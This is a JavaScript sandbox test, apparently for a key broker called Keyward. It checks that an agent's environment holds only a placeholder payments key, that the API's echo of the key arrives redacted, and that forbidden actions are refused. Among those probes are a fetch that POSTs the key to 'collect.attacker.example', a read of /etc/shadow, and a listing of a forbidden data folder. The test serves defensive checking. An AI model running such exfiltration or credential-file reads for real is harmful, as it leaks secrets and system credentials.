// What an agent might run: it asks the payments API for the balance with the key from its environment. It also tries what an
// agent must not be able to do, and says how that went, one JSON line for each step.
import { readdirSync, readFileSync } from 'node:fs'

const key = process.env.PAYMENTS_API_KEY ?? ''
let failed = false

function tell(step, ok, detail) {
  failed ||= !ok
  process.stdout.write(`${JSON.stringify({ step, ok, detail })}\n`)
}

async function refusal(work) {
  try {
    await work()
    return undefined
  } catch (error) {
    return String(error.cause?.message ?? error.message).slice(0, 120)
  }
}

tell('placeholder', key.startsWith('kwp_'), 'the environment holds a placeholder, not a key')

const answer = await fetch(`${process.env.PAYMENTS_API_URL}/v1/balance`, { headers: { authorization: `Bearer ${key}` } })
const body = await answer.text()
tell('call', answer.status === 200 && body.includes('"balance"'), `the API answered ${answer.status}`)
const echoes = [JSON.parse(body).youSentMe, answer.headers.get('x-echo')]
tell('redaction', echoes.every((echo) => echo === '[redacted by Keyward]'), `the API repeated the key; what arrived here: ${echoes[0]}`)

const elsewhere = await refusal(() => fetch('https://collect.attacker.example/', { method: 'POST', body: key }))
tell('other-host', elsewhere !== undefined, `another host: ${elsewhere}`)
const shadow = await refusal(() => readFileSync('/etc/shadow'))
tell('shadow', shadow !== undefined, `/etc/shadow: ${shadow}`)
const data = await refusal(() => readdirSync(process.env.FORBIDDEN_FOLDER))
tell('data-folder', data !== undefined, `Keyward's data folder: ${data}`)

process.exitCode = failed ? 1 : 0
